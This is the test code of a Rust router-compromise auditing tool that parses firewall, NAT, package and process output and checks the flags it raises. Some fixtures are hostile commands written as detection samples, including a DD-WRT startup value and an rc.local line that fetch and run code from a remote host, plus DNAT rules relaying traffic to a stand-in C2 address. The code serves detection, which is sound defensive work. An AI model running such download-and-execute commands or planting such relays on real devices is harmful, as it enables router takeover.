            .collect();
        got.sort();
        assert_eq!(
            got,
            [
                ("connection".to_string(), "2001:db8:ff::9".to_string()),
                ("connection".to_string(), "203.0.113.7".to_string()),
                // The capture's stand-in C2 listened on 11288 itself.
                ("listening_port".to_string(), "11288".to_string()),
            ]
        );
        let c2 = f
            .iter()
            .find(|f| f.details.as_ref().unwrap()["key"] == "203.0.113.7")
            .unwrap();
        assert_eq!(
            c2.details.as_ref().unwrap()["seen_in"],
            serde_json::json!(["udp", "conntrack"])
        );
        // Evidence: each command, then its lines (the UDP socket, then the
        // UDP flow and the DNAT'd TCP flow whose reply came from the C2).
        let raw: Vec<&str> = c2.evidence.iter().map(|e| e.raw.as_str()).collect();
        assert_eq!(raw[0], format!("$ {}", profiles::UDP.command));
        assert!(raw[1].contains("077100CB:0035 01"));
        assert_eq!(raw[2], format!("$ {}", profiles::CONNTRACK.command));
        assert_eq!(raw.len(), 5);
        assert!(
            c2.reasons[0].contains("forwarded to 203.0.113.7"),
            "{}",
            c2.reasons[0]
        );
        // The same with conntrack-tools' format.
        let f2 = run_many(&r, &[(profiles::CONNTRACK, CONNTRACK_TOOL)], &feeds);
        assert_eq!(f2.len(), 1);
        assert_eq!(f2[0].id, c2.id, "the same finding whatever saw it");
        // No feed address: nothing.
        let quiet = run_many(
            &r,
            &[(profiles::UDP, udp), (profiles::CONNTRACK, CONNTRACK_PROC)],
            &[(
                IndicatorValue::Ip("192.0.2.99".parse().unwrap()),
                "x".into(),
            )],
        );
        assert!(quiet.is_empty(), "{quiet:?}");
    }

    /// `iptables-save` v1.8.9 (nf_tables) and `nft list ruleset` (nftables
    /// 1.0.6), captured from the same network namespace after
    /// `iptables -t nat -A PREROUTING -p tcp --dport 8080 -j DNAT
    /// --to-destination 203.0.113.7:11288`, `… --dport 2323 -j REDIRECT
    /// --to-ports 7777`, a MASQUERADE and a filter rule; iptables-nft shows
    /// its rules in both. The fw4 chain (OpenWrt 22.03+) is written in
    /// the form fw4 generates for a `redirect` section.
    const IPTABLES_SAVE: &str =
        "# Generated by iptables-save v1.8.9 (nf_tables) on Fri Dec  4 09:41:59 2026
*filter
:INPUT ACCEPT [0:0]
:FORWARD ACCEPT [0:0]
:OUTPUT ACCEPT [0:0]
-A INPUT -p tcp -m tcp --dport 22 -j ACCEPT
COMMIT
# Completed on Fri Dec  4 09:41:59 2026
# Generated by iptables-save v1.8.9 (nf_tables) on Fri Dec  4 09:41:59 2026
*nat
:PREROUTING ACCEPT [0:0]
:INPUT ACCEPT [0:0]
:OUTPUT ACCEPT [0:0]
:POSTROUTING ACCEPT [0:0]
-A PREROUTING -p tcp -m tcp --dport 8080 -j DNAT --to-destination 203.0.113.7:11288
-A PREROUTING -p tcp -m tcp --dport 2323 -j REDIRECT --to-ports 7777
-A POSTROUTING -o eth0 -j MASQUERADE
COMMIT
# Completed on Fri Dec  4 09:41:59 2026
";
    const NFT_RULESET: &str = "table inet f {
\tchain in {
\t\ttype filter hook input priority filter; policy accept;
\t\tct state established accept
\t}
}
table ip nat {
\tchain PREROUTING {
\t\ttype nat hook prerouting priority dstnat; policy accept;
\t\ttcp dport 8080 counter packets 0 bytes 0 dnat to 203.0.113.7:11288
\t\ttcp dport 2323 counter packets 0 bytes 0 redirect to :7777
\t}

\tchain POSTROUTING {
\t\ttype nat hook postrouting priority srcnat; policy accept;
\t\toifname \"eth0\" counter packets 0 bytes 0 masquerade
\t}
}
table inet fw4 {
\tchain dstnat_wan {
\t\tmeta nfproto ipv4 tcp dport 8022 counter packets 3 bytes 180 dnat ip to 192.168.1.10:22 comment \"!fw4: ssh-to-nas\"
\t\tmeta nfproto ipv4 udp dport { 500, 4500 } counter packets 0 bytes 0 dnat ip to 192.168.1.20 comment \"!fw4: vpn dnat to x\"
\t}
\tchain forward_wan {
\t\tct status dnat accept comment \"!fw4: Accept port forwards\"
\t\ticmp type redirect drop
\t\ticmpv6 type { nd-redirect, redirect } drop
\t\ticmp type { echo-request, redirect, time-exceeded } drop
\t}
}
# Warning: table ip nat is managed by iptables-nft, do not touch!
";

    #[test]
    fn nat_rules_real_formats() {
        let i = parse_iptables_forwards(IPTABLES_SAVE);
        assert_eq!(
            i.iter()
                .map(|f| (f.kind, f.destination(), f.match_port.clone()))
                .collect::<Vec<_>>(),
            [
                (
                    "dnat",
                    "203.0.113.7:11288".to_string(),
                    Some("8080".to_string())
                ),
                ("redirect", ":7777".to_string(), Some("2323".to_string())),
            ]
        );
        let n = parse_nft_forwards(NFT_RULESET);
        assert_eq!(
            n.iter()
                .map(|f| (
                    f.kind,
                    f.destination(),
                    f.match_port.clone(),
                    f.proto.clone()
                ))
                .collect::<Vec<_>>(),
            [
                (
                    "dnat",
                    "203.0.113.7:11288".to_string(),
                    Some("8080".to_string()),
                    Some("tcp".to_string())
                ),
                (
                    "redirect",
                    ":7777".to_string(),
                    Some("2323".to_string()),
                    Some("tcp".to_string())
                ),
                (
                    "dnat",
                    "192.168.1.10:22".to_string(),
                    Some("8022".to_string()),
                    Some("tcp".to_string())
                ),
                (
                    "dnat",
                    "192.168.1.20".to_string(),
                    Some("{ 500, 4500 }".to_string()),
                    Some("udp".to_string())
                ),
            ]
        );
        assert_eq!(
            parse_nat_target("[2001:db8::5]:8443"),
            Some((Some("2001:db8::5".parse().unwrap()), Some(8443)))
        );
        assert_eq!(
            parse_nat_target("10.0.0.1-10.0.0.9:80-90"),
            Some((Some("10.0.0.1".parse().unwrap()), Some(80)))
        );
        assert_eq!(parse_nat_target("nonsense"), None);
    }

    #[test]
    fn uci_redirects() {
        // `uci show firewall` as OpenWrt prints it: an anonymous and a
        // named redirect, a disabled one, an SNAT one, and a rule.
        let t = "firewall.@defaults[0]=defaults
firewall.@defaults[0].input='ACCEPT'
firewall.@redirect[0]=redirect
firewall.@redirect[0].target='DNAT'
firewall.@redirect[0].name='ssh-to-nas'
firewall.@redirect[0].src='wan'
firewall.@redirect[0].src_dport='8022'
firewall.@redirect[0].dest='lan'
firewall.@redirect[0].dest_ip='192.168.1.10'
firewall.@redirect[0].dest_port='22'
firewall.@redirect[0].proto='tcp'
firewall.cfg0e92bd=redirect
firewall.cfg0e92bd.src='wan'
firewall.cfg0e92bd.src_dport='2323'
firewall.cfg0e92bd.dest_port='7777'
firewall.@redirect[2]=redirect
firewall.@redirect[2].enabled='0'
firewall.@redirect[2].src_dport='9999'
firewall.@redirect[2].dest_ip='203.0.113.99'
firewall.@redirect[3]=redirect
firewall.@redirect[3].target='SNAT'
firewall.@redirect[3].src_ip='192.168.1.0/24'
firewall.@rule[0]=rule
firewall.@rule[0].dest_port='22'
";
        let u = parse_uci_forwards(t);
        assert_eq!(
            u.iter()
                .map(|f| (f.kind, f.destination(), f.lines.len()))
                .collect::<Vec<_>>(),
            [
                ("dnat", "192.168.1.10:22".to_string(), 9),
                ("redirect", ":7777".to_string(), 4)
            ]
        );
    }

    #[test]
    fn forwards_are_graded_and_merged_across_sources() {
        let r = router("expected_forwards = ['192.168.1.10:22']");
        let uci = "firewall.@redirect[0]=redirect\nfirewall.@redirect[0].src_dport='8022'\nfirewall.@redirect[0].dest_ip='192.168.1.10'\nfirewall.@redirect[0].dest_port='22'\nfirewall.x=redirect\nfirewall.x.src_dport='2323'\nfirewall.x.dest_port='7777'\n";
        let nat = format!("{IPTABLES_SAVE}{NFT_RULESET}");
        let f = run_many(
            &r,
            &[(profiles::NAT, &nat), (profiles::UCI_FIREWALL, uci)],
            &[],
        );
        let got: Vec<_> = f
            .iter()
            .map(|f| {
                (
                    f.details.as_ref().unwrap()["key"]
                        .as_str()
                        .unwrap()
                        .to_string(),
                    f.severity.unwrap(),
                )
            })
            .collect();
        assert_eq!(
            got,
            [
                ("dnat 203.0.113.7:11288".to_string(), Severity::Critical),
                ("redirect :7777".to_string(), Severity::Critical),
                ("dnat 192.168.1.20".to_string(), Severity::Medium),
            ]
        );
        let redirect = &f[1];
        assert_eq!(
            redirect.details.as_ref().unwrap()["seen_in"],
            serde_json::json!(["iptables", "nft", "uci"])
        );
        assert!(
            redirect
                .evidence
                .iter()
                .any(|e| e.raw == format!("$ {}", profiles::UCI_FIREWALL.command))
        );
        // An outside host on a harmless port is still a relay (high).
        let out =
            "-A PREROUTING -p tcp -m tcp --dport 443 -j DNAT --to-destination 198.51.100.4:443\n";
        let f = run_many(&router(""), &[(profiles::NAT, out)], &[]);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Some(Severity::High));
        assert!(f[0].reasons[0].contains("relay"), "{}", f[0].reasons[0]);
        // MASQUERADE and filter rules alone are not forwards.
        let plain = "*nat\n-A POSTROUTING -o eth0 -j MASQUERADE\n*filter\n-A INPUT -p tcp -m tcp --dport 22 -j ACCEPT\n";
        assert!(run_many(&router(""), &[(profiles::NAT, plain)], &[]).is_empty());
        assert!(is_outside("203.0.113.7".parse().unwrap()));
        assert!(!is_outside("100.64.1.1".parse().unwrap()));
        assert!(!is_outside("fd00::1".parse().unwrap()));
    }

    #[test]
    fn unowned_executables() {
        // opkg `.list` lines (OpenWrt 23.05 writes a path, or a path, a tab
        // and the symlink target) and `find … -exec sha256sum` output.
        let owned = "/usr/sbin/dropbear\n/usr/bin/dbclient\n/bin/busybox\n/bin/sh\t/bin/busybox\n/lib/libc.so\n";
        let h = "0".repeat(64);
        let exes = format!(
            "{h}  /bin/busybox\n{h}  /usr/sbin/dropbear\n{h}  /sbin/dropbear\n{h}  /usr/sbin/xl-relay\n{h}  /usr/libexec/.hidden\nfind: /usr/libexec: No such file or directory\n"
        );
        let r = router("");
        let f = run_many(
            &r,
            &[
                (profiles::OPKG_FILES, owned),
                (profiles::SYSTEM_EXECUTABLES, &exes),
            ],
            &[],
        );
        let mut got: Vec<_> = f
            .iter()
            .map(|f| {
                format!(
                    "{} {}",
                    check_of(f),
                    f.details.as_ref().unwrap()["key"].as_str().unwrap()
                )
            })
            .collect();
        got.sort();
        assert_eq!(
            got,
            [
                "unowned_executable /usr/libexec/.hidden",
                "unowned_executable /usr/sbin/xl-relay"
            ]
        );
        // No lists at all: nothing is judged.
        let f = run_many(
            &r,
            &[
                (profiles::OPKG_FILES, ""),
                (profiles::SYSTEM_EXECUTABLES, &exes),
            ],
            &[],
        );
        assert!(f.is_empty());
    }

    /// apk's installed database as apk writes it (fields of the Alpine
    /// package database: `C:` checksum, `P:` name, `V:` version, `F:` a
    /// folder, `R:` a file in it, `a:` its owner and mode, `Z:` its
    /// checksum), for two packages of an OpenWrt 25.12 image.
    const APK_DB: &str = "C:Q1p7sBqiz0kjlJJ5vJrQYZ0Bth8Vs=\nP:dropbear\nV:2024.86-r1\nA:x86_64\nS:81920\nI:204800\nT:Small SSH2 client/server\nF:usr\nF:usr/sbin\nR:dropbear\na:0:0:755\nZ:Q1aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=\nF:etc/init.d\nR:dropbear\nZ:Q1c2VydmljZSBzZXJ2aWNlIHNlcnZpY2U=\n\nC:Q1x9Jdq5xbT2Fq8m1iW9cG1dZ6Kc0=\nP:busybox\nV:1.37.0-r2\nF:bin\nR:busybox\nR:sh\nF:usr/bin\nR:dbclient\n";

    #[test]
    fn unowned_executables_with_apk() {
        let h = "0".repeat(64);
        let exes = format!(
            "{h}  /bin/busybox\n{h}  /usr/sbin/dropbear\n{h}  /usr/bin/dbclient\n{h}  /usr/sbin/xl-relay\n"
        );
        let r = router("");
        let f = run_many(
            &r,
            &[
                (profiles::OPKG_FILES, ""),
                (profiles::APK_INSTALLED, APK_DB),
                (profiles::SYSTEM_EXECUTABLES, &exes),
            ],
            &[],
        );
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(check_of(&f[0]), "unowned_executable");
        assert!(
            f[0].reasons[0].contains("/usr/sbin/xl-relay")
                && f[0].reasons[0].contains("apk's installed database"),
            "{}",
            f[0].reasons[0]
        );
        let db = ApkInstalled::parse(APK_DB);
        assert_eq!(
            db.owner.get("/etc/init.d/dropbear").map(String::as_str),
            Some("dropbear")
        );
        assert_eq!(db.owner.get("/bin/sh").map(String::as_str), Some("busybox"));
        assert_eq!(db.owner.len(), 5);
        // Neither manager's lists: nothing is judged.
        let f = run_many(
            &r,
            &[
                (profiles::APK_INSTALLED, ""),
                (profiles::SYSTEM_EXECUTABLES, &exes),
            ],
            &[],
        );
        assert!(f.is_empty());
    }

    #[test]
    fn apk_audit_verdicts() {
        // apk-audit(8)'s output: a letter, a space, the path (here as apk
        // prints it, relative to the root) or an absolute one.
        let audit = "U usr/sbin/dropbear\nX /usr/bin/dbclient\nM bin/busybox\ne etc/shadow\nA usr/sbin/xl-relay\nd etc/.xl\nnot an audit line\n";
        let r = router("");
        let f = run_many(
            &r,
            &[
                (profiles::APK_INSTALLED, APK_DB),
                (profiles::APK_AUDIT, audit),
            ],
            &[],
        );
        let mut got: Vec<_> = f
            .iter()
            .map(|f| {
                format!(
                    "{} {} {:?}",
                    check_of(f),
                    f.details.as_ref().unwrap()["key"].as_str().unwrap(),
                    f.severity
                )
            })
            .collect();
        got.sort();
        assert_eq!(
            got,
            [
                "package_file_deleted /usr/bin/dbclient Some(Medium)",
                "package_file_metadata /bin/busybox Some(Medium)",
                "package_file_modified /usr/sbin/dropbear Some(High)",
                "package_file_unreadable /etc/shadow Some(Low)",
            ]
        );
        let modified = f
            .iter()
            .find(|f| check_of(f) == "package_file_modified")
            .unwrap();
        assert!(
            modified.reasons[0].contains("dropbear installed"),
            "{}",
            modified.reasons[0]
        );
        // A clean audit prints nothing.
        assert!(run_many(&r, &[(profiles::APK_AUDIT, "")], &[]).is_empty());
    }

    fn vendor_router(profile: &str) -> Router {
        let t = format!(
            "[[router]]\nname='v'\nhost='192.0.2.10'\nuser='admin'\nprofile='{profile}'\nexpected_dns=['192.0.2.53']\nmax_uptime_days=30\n"
        );
        Inventory::parse(&t, Path::new("t.toml"))
            .unwrap()
            .routers
            .remove(0)
    }

    fn keys_of(f: &[Finding]) -> Vec<String> {
        let mut v: Vec<String> = f
            .iter()
            .map(|f| {
                format!(
                    "{} {}",
                    check_of(f),
                    f.details.as_ref().unwrap()["key"].as_str().unwrap()
                )
            })
            .collect();
        v.sort();
        v
    }

    /// Issue 16: a finding from an entry nobody could check says so in
    /// its text, with what is open, and carries the flag in details.
    #[test]
    fn unverified_entry_is_reported_as_unverified() {
        let r = vendor_router("busybox");
        let shipped = vulnerable::parse_list(vulnerable::SHIPPED, "shipped").unwrap();
        let (f, _) = run_audit(
            &r,
            &[(
                profiles::VERSION,
                "Linux 2.6.36 mips\nNETGEAR ProSAFE VPN Firewall FVS318G\n",
            )],
            &[],
            &shipped,
        );
        let fw: Vec<_> = f.iter().filter(|f| check_of(f) == "firmware").collect();
        assert_eq!(fw.len(), 1, "{:?}", keys_of(&f));
        assert!(
            fw[0].reasons[0].contains("[UNVERIFIED entry: No source read names a ProSAFE model"),
            "{}",
            fw[0].reasons[0]
        );
        assert_eq!(fw[0].details.as_ref().unwrap()["verified"], false);
        assert_eq!(fw[0].severity, Some(Severity::Medium));
    }

    /// RouterOS end to end through `run_all`, on output written from the
    /// RouterOS manual (see `vendor`'s tests for the formats).
    #[test]
    fn mikrotik_audit_from_console_output() {
        let r = vendor_router("mikrotik");
        assert_eq!(r.profile.probes().len(), 5);
        let resource = "                   uptime: 5w2d03:14:07\n                  version: 6.41.3 (bugfix)\n                board-name: hAP ac\n                 platform: MikroTik\n";
        let dns = "                      servers: 192.0.2.53,203.0.113.53\n              dynamic-servers: \n        allow-remote-requests: yes\n";
        let script = "Flags: I - invalid \n 0   name=\"clean\" owner=\"admin\" policy=read,write dont-require-permissions=no run-count=0 source=\"/log info hello\" \n";
        let shipped = vulnerable::parse_list(vulnerable::SHIPPED, "shipped").unwrap();
        let (f, o) = run_audit(
            &r,
            &[
                (profiles::ROS_RESOURCE, resource),
                (profiles::ROS_DNS, dns),
                (profiles::ROS_NAT, vendor::tests::NAT_DETAIL),
                (profiles::ROS_SCHEDULER, vendor::tests::SCHEDULER),
                (profiles::ROS_SCRIPT, script),
            ],
            &[],
            &shipped,
        );
        assert_eq!(
            keys_of(&f),
            [
                "dns 203.0.113.53",
                "firmware routeros-winbox-cve-2018-14847",
                "persistence routeros scheduler:upd113",
                "port_forward dnat 192.168.88.10:22",
                "port_forward dnat 203.0.113.5:11288",
                "port_forward redirect :53",
                "uptime over_policy",
            ]
        );
        let fw = f.iter().find(|f| check_of(f) == "firmware").unwrap();
        assert!(
            fw.reasons[0].contains(
                "(advisory MikroTik: Winbox vulnerability: https://mikrotik.com/supportsec/winbox-vulnerability)"
            ),
            "{}",
            fw.reasons[0]
        );
        assert_eq!(
            fw.details.as_ref().unwrap()["advisories"][0]["id"],
            "MikroTik: Winbox vulnerability"
        );
        // A verified entry: no caveat in the text, the flag in details.
        assert!(!fw.reasons[0].contains("nverified"), "{}", fw.reasons[0]);
        assert_eq!(fw.details.as_ref().unwrap()["verified"], true);
        let sched = f.iter().find(|f| check_of(f) == "persistence").unwrap();
        assert_eq!(
            sched.evidence[0].raw,
            format!("$ {}", profiles::ROS_SCHEDULER.command)
        );
        assert_eq!(
            checks_uptime(&o, r.profile),
            Some(5.0 * 604_800.0 + 2.0 * 86_400.0 + 3.0 * 3600.0 + 14.0 * 60.0 + 7.0)
        );
    }

    fn checks_uptime(o: &Outputs, p: profiles::Profile) -> Option<f64> {
        let probe = p.uptime_probe();
        uptime_from(probe, &o.get(probe.id)?.stdout)
    }

    #[test]
    fn edgeos_and_ddwrt_settings() {
        let r = vendor_router("edgeos");
        // EdgeOS names its resolver in resolv.conf and config.boot: one
        // finding for the hijacked forwarder, whatever named it.
        let resolv = "/etc/resolv.conf:nameserver 203.0.113.53\n";
        let f = run_many(
            &r,
            &[
                (profiles::CONFIG_BOOT, vendor::tests::EDGEOS_CONFIG),
                (profiles::DNS, resolv),
            ],
            &[],
        );
        assert_eq!(
            keys_of(&f),
            [
                "dns 203.0.113.53",
                "persistence task-scheduler:upd",
                "port_forward dnat 192.168.1.10:22",
                "port_forward dnat 192.168.1.20:80",
                "port_forward dnat 203.0.113.5:11288",
            ]
        );
        let r = vendor_router("ddwrt");
        let nvram = "wan_dns=203.0.113.53 192.0.2.53\nforward_spec=nas:on:tcp:2222>192.168.1.10:22 old:off:tcp:80>192.168.1.11:80\nforward_port=\nrc_startup=#!/bin/sh\nwget -O /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x\nrc_firewall=\nrc_custom=\n";
        let f = run_many(&r, &[(profiles::NVRAM, nvram)], &[]);
        assert_eq!(
            keys_of(&f),
            [
                "dns 203.0.113.53",
                "persistence nvram rc_startup:wget -O /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x",
                "port_forward dnat 192.168.1.10:22",
            ]
        );
    }

    /// Every parser on token soup made of the formats' own pieces
    /// (deterministic, 3,000 documents): no panic, whatever the order.
    #[test]
    fn parsers_survive_token_soup() {
        const TOKENS: [&str; 40] = [
            "src=",
            "dst=203.0.113.7",
            "sport=",
            "dport=99999",
            "ipv4",
            "ipv6",
            "2",
            "tcp",
            "6",
            "[UNREPLIED]",
            "ESTABLISHED",
            "-A",
            "-j",
            "DNAT",
            "REDIRECT",
            "--to-destination",
            "--to-ports",
            "[::1]:",
            ":",
            "dnat",
            "redirect",
            "to",
            "{",
            "}",
            ",",
            "dport",
            "firewall.@redirect[0]=redirect",
            "firewall.@redirect[0].dest_ip=",
            "=",
            "\n",
            "\n ",
            "\n 0 X ",
            ";;;",
            "\"",
            "\\",
            "on-event=\"",
            "rule 1 {",
            "forward-to {",
            "name-server",
            ">",
        ];
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        let r = router("");
        let feeds = [(
            IndicatorValue::Cidr("0.0.0.0/0".parse().unwrap()),
            "all".to_string(),
        )];
        for _ in 0..3000 {
            let mut doc = String::new();
            for _ in 0..(x % 60) {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                doc.push_str(TOKENS[(x % TOKENS.len() as u64) as usize]);
                if x & 1 == 0 {
                    doc.push(' ');
                }
            }
            let _ = parse_conntrack(&doc);
            let _ = parse_iptables_forwards(&doc);
            let _ = parse_nft_forwards(&doc);
            let _ = parse_uci_forwards(&doc);
            let _ = vendor::parse_routeros_detail(&doc);
            let _ = vendor::routeros_forwards(&doc);
            let _ = vendor::routeros_duration(&doc);
            let leaves = vendor::parse_config_boot(&doc);
            let _ = vendor::config_boot_forwards(&leaves);
            let _ = vendor::config_boot_tasks(&leaves);
            let nv = vendor::parse_nvram(&doc, &NVRAM_NAMES);
            let _ = vendor::ddwrt_forwards(&nv.values().flatten().copied().collect::<Vec<_>>());
            let probes: Vec<_> = profiles::ALL.iter().flat_map(|p| p.probes()).collect();
            let outs: Vec<(Probe, &str)> = probes.iter().map(|p| (*p, doc.as_str())).collect();
            let _ = run_many(&r, &outs, &feeds);
        }
    }

    #[test]
    fn processes() {
        let t = "1\t/bin/busybox\tinit\t/sbin/init \n12\t/tmp/.x\t.x\t/tmp/.x \n13\t/usr/bin/dropbear (deleted)\tdropbear\tdropbear \n14\t/usr/sbin/hid\tkworker/0:1\t[kworker/0:1] \n2\t\tkthreadd\t\nbad line\n";
        let f = run(&router(""), profiles::PROCESSES, t, &HashMap::new());
        let mut c: Vec<_> = f.iter().map(check_of).collect();
        c.sort();
        assert_eq!(
            c,
            [
                "process_deleted_exe",
                "process_fake_kernel_thread",
                "process_writable_path"
            ]
        );
    }

    #[test]
    fn hashes_persistence_dns_keys_accounts() {
        let h = "a".repeat(64);
        let hashes = HashMap::from([(h.clone(), "test-feed".to_string())]);
        let t = format!(
            "{h}  /etc/.x/agent\n{h}  /proc/5/exe\n{}  /bin/busybox\nnot a hash\n",
            "b".repeat(64)
        );
        let f = run(&router(""), profiles::HASHES, &t, &hashes);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Some(Severity::Critical));

        let t = "/etc/crontabs/root:*/5 * * * * /etc/.x/agent\n/etc/crontabs/root:# /tmp/comment\n/etc/init.d/boot:mount -t tmpfs tmpfs /tmp\n/etc/rc.local:wget http://x/y -O- | sh\n/etc/rc.local:exit 0\n";
        let f = run(&router(""), profiles::PERSISTENCE, t, &HashMap::new());
        // The hidden-path cron job and the download-and-run are flagged; the
        // init script that mounts /tmp (no program run from it), the
        // comment and `exit 0` are not.
        assert_eq!(f.len(), 2);

        let t = "/etc/resolv.conf:nameserver 203.0.113.66\n/etc/resolv.conf:nameserver 192.0.2.53\n/tmp/resolv.conf:nameserver 127.0.0.1\n/etc/resolv.conf:nameserver bogus\n";
        let f = run(&router(""), profiles::DNS, t, &HashMap::new());
        assert_eq!(f.len(), 1);
        assert!(f[0].reasons[0].contains("203.0.113.66"));

        let t = "/root/.ssh/authorized_keys:ssh-ed25519 AAAAknown admin@corp\n/root/.ssh/authorized_keys:no-pty ssh-rsa AAAAevil x@y\n/root/.ssh/authorized_keys:\n";
        let r = router("authorized_keys=['ssh-ed25519 AAAAknown other-comment']");
        let f = run(&r, profiles::AUTHORIZED_KEYS, t, &HashMap::new());
        assert_eq!(f.len(), 1);
        assert!(f[0].reasons[0].contains("x@y"));

        let t = "root:x:0:0:root:/root:/bin/ash\ntoor:x:0:0::/:/bin/sh\nnobody:x:65534:65534::/:/bin/false\nshort:x\n";
        let f = run(&router(""), profiles::ACCOUNTS, t, &HashMap::new());
        assert_eq!(f.len(), 1);
    }

    #[test]
    fn ids_are_stable_and_garbage_is_quiet() {
        assert_eq!(
            finding_id("a", "dns", "1.2.3.4"),
            finding_id("a", "dns", "1.2.3.4")
        );
        assert_ne!(
            finding_id("a", "dns", "1.2.3.4"),
            finding_id("b", "dns", "1.2.3.4")
        );
        let junk = "\u{0}\u{fffd}:::\t\t\t\n   0: ZZ:ZZ 00:00 0A\n0: 00000000:FFFFFF 0:0 0A\n";
        for p in profiles::ALL.iter().flat_map(|p| p.probes()) {
            let f = run(&router(""), p, junk, &HashMap::new());
            assert!(f.is_empty(), "{}: {f:?}", p.id);
        }
        assert_eq!(uptime_secs("NaN 1"), None);
        assert_eq!(uptime_secs("12.5 3"), Some(12.5));
    }
}
